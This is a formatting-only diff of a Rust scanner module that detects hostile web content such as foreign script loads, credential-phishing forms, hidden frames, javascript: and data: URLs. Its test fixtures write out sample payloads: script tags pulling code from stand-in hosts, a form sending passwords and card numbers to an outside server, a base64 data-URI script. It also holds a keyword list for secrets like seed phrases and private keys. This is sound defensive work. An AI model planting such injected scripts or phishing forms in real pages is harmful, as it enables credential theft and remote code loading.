@@ -19,12 +19,18 @@ pub static FOREIGN_SCRIPT: Rule = Rule {
     finds: &[
         ("x.html", "<script src=\"https://cdn.evil-analytics.example/t.js\"></script>"),
         ("x.html", "<SCRIPT/SRC=//45.33.32.156/a.js></SCRIPT>"),
-        ("x.js", "const s = document.createElement('script'); s.src = 'https://c.example.net/a.js'; document.head.append(s)"),
+        (
+            "x.js",
+            "const s = document.createElement('script'); s.src = 'https://c.example.net/a.js'; document.head.append(s)",
+        ),
         ("x.js", "document.write('<script src=\"https://c.example.net/a.js\"></script>')"),
         ("x.js", "import('https://c.example.net/a.js')"),
     ],
     spares: &[
-        ("x.html", "<script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script><script src=\"app.js\"></script><script src=\"/lib/a.js\"></script>"),
+        (
+            "x.html",
+            "<script src=\"https://cdn.jsdelivr.net/npm/chart.js\"></script><script src=\"app.js\"></script><script src=\"/lib/a.js\"></script>",
+        ),
         ("x.js", "import React from 'https://esm.sh/react@18'; img.src = 'https://picsum.photos/200';"),
     ],
 };
@@ -34,7 +40,10 @@ pub static PHISHING: Rule = Rule {
     why: "the form asks for secrets and sends them to another site",
     remedy: "post the form to the app's own server",
     finds: &[
-        ("x.html", "<form action=\"https://c.example.net/l.php\" method=post><input name=u><input type=password name=p></form>"),
+        (
+            "x.html",
+            "<form action=\"https://c.example.net/l.php\" method=post><input name=u><input type=password name=p></form>",
+        ),
         ("x.html", "<form><input type=password><button formaction=\"//c.example.net/\">in</button></form>"),
         ("x.html", "<form action=https://c.example.net><input name=card_number><input name=cvv></form>"),
     ],
@@ -68,7 +77,10 @@ pub static SCRIPT_URL: Rule = Rule {
         ("x.html", "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>"),
         ("x.html", "<object data=\"data:text/html,<script>x()</script>\"></object>"),
     ],
-    spares: &[("x.html", "<a href=\"javascript:void(0)\">x</a><a href=\"javascript:;\">y</a><img src=\"data:image/png;base64,AA==\">")],
+    spares: &[(
+        "x.html",
+        "<a href=\"javascript:void(0)\">x</a><a href=\"javascript:;\">y</a><img src=\"data:image/png;base64,AA==\">",
+    )],
 };
 pub static STYLE_CODE: Rule = Rule {
     id: "style-code",
@@ -95,7 +107,8 @@ pub static STYLE_FOREIGN: Rule = Rule {
     spares: &[("x.css", "@import url('https://fonts.googleapis.com/css2?family=Inter'); @import 'base.css';")],
 };
 
-pub(super) const RULES: &[&Rule] = &[&FOREIGN_SCRIPT, &PHISHING, &REDIRECT, &SCRIPT_URL, &STYLE_CODE, &STYLE_SPY, &STYLE_FOREIGN];
+pub(super) const RULES: &[&Rule] =
+    &[&FOREIGN_SCRIPT, &PHISHING, &REDIRECT, &SCRIPT_URL, &STYLE_CODE, &STYLE_SPY, &STYLE_FOREIGN];
 
 /// What is known of the form that is open.
 #[derive(Default)]
@@ -115,7 +128,9 @@ impl Page {
             "input" | "textarea" => self.secret = self.secret.or_else(|| asks_for(element)),
             "meta" if element.get("http-equiv").is_some_and(|name| name.eq_ignore_ascii_case("refresh")) => {
                 let content = element.get("content").unwrap_or_default();
-                if let Some(host) = content.split_once('=').and_then(|(_, url)| foreign(url.trim_matches(['\'', '"', ' ']))) {
+                if let Some(host) =
+                    content.split_once('=').and_then(|(_, url)| foreign(url.trim_matches(['\'', '"', ' '])))
+                {
                     found.add(&REDIRECT, line, &format!("the page goes to {host} by itself"));
                 }
             }
@@ -150,11 +165,31 @@ fn foreign(address: &str) -> Option<String> {
 }
 
 fn asks_for(element: &Element) -> Option<&'static str> {
-    let name = [element.get("name"), element.get("id"), element.get("placeholder"), element.get("autocomplete")].into_iter().flatten().collect::<Vec<_>>().join(" ").to_ascii_lowercase();
+    let name = [element.get("name"), element.get("id"), element.get("placeholder"), element.get("autocomplete")]
+        .into_iter()
+        .flatten()
+        .collect::<Vec<_>>()
+        .join(" ")
+        .to_ascii_lowercase();
     if element.get("type").is_some_and(|kind| kind.eq_ignore_ascii_case("password")) || name.contains("passw") {
         return Some("a password");
     }
-    let card = ["card", "cvv", "cvc", "iban", "ssn", "social security", "seed phrase", "seed_phrase", "mnemonic", "private key", "private_key", "otp", "one-time", "pin code"];
+    let card = [
+        "card",
+        "cvv",
+        "cvc",
+        "iban",
+        "ssn",
+        "social security",
+        "seed phrase",
+        "seed_phrase",
+        "mnemonic",
+        "private key",
+        "private_key",
+        "otp",
+        "one-time",
+        "pin code",
+    ];
     card.iter().any(|word| name.contains(word)).then_some("a number or phrase of money")
 }
 
@@ -177,8 +212,14 @@ fn frame(element: &Element, line: usize, found: &mut Found<'_>) {
     let Some(host) = foreign(address) else { return };
     let style = element.get("style").unwrap_or_default().replace(' ', "").to_ascii_lowercase();
     let small = |name: &str| element.get(name).is_some_and(|size| matches!(size.trim_end_matches("px"), "0" | "1"));
-    let hidden = style.contains("display:none") || style.contains("visibility:hidden") || style.contains("opacity:0;") || style.ends_with("opacity:0")
-        || style.contains("left:-9") || small("width") || small("height") || element.get("hidden").is_some();
+    let hidden = style.contains("display:none")
+        || style.contains("visibility:hidden")
+        || style.contains("opacity:0;")
+        || style.ends_with("opacity:0")
+        || style.contains("left:-9")
+        || small("width")
+        || small("height")
+        || element.get("hidden").is_some();
     let object = matches!(element.name.as_str(), "embed" | "object");
     if hidden || object && !hosts::is_frame_host(&host) {
         found.add(&REDIRECT, line, &format!("a frame that nobody sees shows {host}"));
@@ -196,7 +237,20 @@ fn attributes(element: &Element, line: usize, found: &mut Found<'_>) {
             found.nest(Language::Css, &format!("x{{{value}}}"), line);
         } else if name == "srcdoc" {
             found.nest(Language::Html, value, line);
-        } else if matches!(name.as_str(), "src" | "href" | "data" | "action" | "formaction" | "xlink:href" | "poster" | "srcset" | "to" | "from" | "values") {
+        } else if matches!(
+            name.as_str(),
+            "src"
+                | "href"
+                | "data"
+                | "action"
+                | "formaction"
+                | "xlink:href"
+                | "poster"
+                | "srcset"
+                | "to"
+                | "from"
+                | "values"
+        ) {
             address(value, line, found);
         }
     }
@@ -207,18 +261,35 @@ fn address(value: &str, line: usize, found: &mut Found<'_>) {
     let plain: String = value.chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect();
     let lower = plain.to_ascii_lowercase();
     if let Some(code) = lower.strip_prefix("javascript:").or_else(|| lower.strip_prefix("vbscript:")) {
-        let idle = matches!(code, "" | ";" | "void(0)" | "void(0);" | "void0" | "history.back()" | "history.back();" | "window.print()" | "window.print();" | "//");
+        let idle = matches!(
+            code,
+            "" | ";"
+                | "void(0)"
+                | "void(0);"
+                | "void0"
+                | "history.back()"
+                | "history.back();"
+                | "window.print()"
+                | "window.print();"
+                | "//"
+        );
         if !idle {
             found.add(&SCRIPT_URL, line, "a javascript: address");
             found.nest(Language::JavaScript, &plain["javascript:".len().min(plain.len())..], line);
         }
     }
-    if let Some(data) = lower.strip_prefix("data:text/html").or_else(|| lower.strip_prefix("data:application/javascript")).or_else(|| lower.strip_prefix("data:text/javascript")) {
+    if let Some(data) = lower
+        .strip_prefix("data:text/html")
+        .or_else(|| lower.strip_prefix("data:application/javascript"))
+        .or_else(|| lower.strip_prefix("data:text/javascript"))
+    {
         found.add(&SCRIPT_URL, line, "a data: address that is a page or a script");
         let body = plain.get(plain.len() - data.len()..).unwrap_or_default();
         let text = match body.split_once("base64,") {
             Some((_, encoded)) => crate::guard::fold::base64(encoded).unwrap_or_default(),
-            None => body.split_once(',').map_or_else(String::new, |(_, text)| percent_encoding::percent_decode_str(text).decode_utf8_lossy().into_owned()),
+            None => body.split_once(',').map_or_else(String::new, |(_, text)| {
+                percent_encoding::percent_decode_str(text).decode_utf8_lossy().into_owned()
+            }),
         };
         found.nest(Language::Html, &unescape(&text), line);
     }
@@ -250,11 +321,18 @@ pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
 
 pub(super) fn assign(path: &str, value: &Value, line: usize, found: &mut Found<'_>) {
     let Some(text) = value.as_text() else { return };
-    if path.ends_with("innerHTML") || path.ends_with("outerHTML") || path.ends_with("srcdoc") || path.ends_with("__html") {
+    if path.ends_with("innerHTML")
+        || path.ends_with("outerHTML")
+        || path.ends_with("srcdoc")
+        || path.ends_with("__html")
+    {
         if text.contains('<') {
             found.nest(Language::Html, text, line);
         }
-    } else if path.starts_with("document.createElement()") && path.ends_with(".src") && text.split(['?', '#']).next().unwrap_or_default().ends_with(".js") {
+    } else if path.starts_with("document.createElement()")
+        && path.ends_with(".src")
+        && text.split(['?', '#']).next().unwrap_or_default().ends_with(".js")
+    {
         if let Some(host) = foreign(text)
             && !hosts::is_library_host(&host)
         {
@@ -262,7 +340,9 @@ pub(super) fn assign(path: &str, value: &Value, line: usize, found: &mut Found<'
         }
     } else if path.ends_with(".onclick") || path.ends_with(".onerror") || path.ends_with(".onload") {
         found.nest(Language::JavaScript, text, line);
-    } else if path.ends_with(".action") && let Some(host) = foreign(text) {
+    } else if path.ends_with(".action")
+        && let Some(host) = foreign(text)
+    {
         found.hint(&PHISHING, line, &format!("a form goes to {host}"));
     } else if path.starts_with("jsx.") && matches!(path, "jsx.href" | "jsx.src") {
         address(text, line, found);
@@ -273,7 +353,9 @@ pub(super) fn assign(path: &str, value: &Value, line: usize, found: &mut Found<'
 pub(super) fn text(text: &str, marks: Marks, line: usize, found: &mut Found<'_>) {
     let _ = marks;
     let lower = text.get(..512).unwrap_or(text);
-    let page = ["<script", "<html", "<form", "<!DOCTYPE", "<iframe", "<body", "onerror=", "<SCRIPT", "<!doctype"].iter().any(|tag| lower.contains(tag));
+    let page = ["<script", "<html", "<form", "<!DOCTYPE", "<iframe", "<body", "onerror=", "<SCRIPT", "<!doctype"]
+        .iter()
+        .any(|tag| lower.contains(tag));
     if page || text.contains("<script") || text.contains("<form") {
         found.nest(Language::Html, text, line);
     }
